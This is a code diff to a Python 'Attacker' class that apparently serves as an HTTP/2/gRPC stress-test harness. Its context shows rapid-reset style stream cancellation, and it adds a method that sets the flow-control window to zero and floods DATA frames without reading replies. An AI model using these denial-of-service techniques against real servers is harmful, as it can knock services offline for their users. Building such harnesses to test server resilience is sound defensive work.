@@ -8,7 +8,9 @@ import struct
 import threading
 
 _PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-_RST_STREAM, _HEADERS, _SETTINGS = 3, 1, 4
+_DATA, _HEADERS, _RST_STREAM, _SETTINGS = 0, 1, 3, 4
+_NO_WINDOW = struct.pack(">HI", 4, 0)
+"""Setting INITIAL_WINDOW_SIZE: the server may send no data."""
 _END_HEADERS, _ACK = 4, 1
 _CANCEL = struct.pack(">I", 8)
 _GROUP = 100
@@ -64,6 +66,16 @@ class Attacker:
                     for number in range(first, first + _GROUP)
                 ]
                 connection.sendall(b"".join(frames))
+
+    def send_without_reading(self, messages: list[bytes]) -> None:
+        """Send messages of one call, whose answers may not be sent."""
+        connection = socket.create_connection(self._address, 5)
+        self._sockets.append(connection)
+        threading.Thread(target=self._drain, args=(connection,), daemon=True).start()
+        settings = _frame(_SETTINGS, 0, 0, _NO_WINDOW) + _frame(_SETTINGS, _ACK, 0, b"")
+        framed = [struct.pack(">BI", 0, len(message)) + message for message in messages]
+        data = b"".join(_frame(_DATA, 0, 1, message) for message in framed)
+        connection.sendall(_PREFACE + settings + _frame(_HEADERS, _END_HEADERS, 1, self._headers) + data)
 
     @staticmethod
     def _drain(connection: socket.socket) -> None:
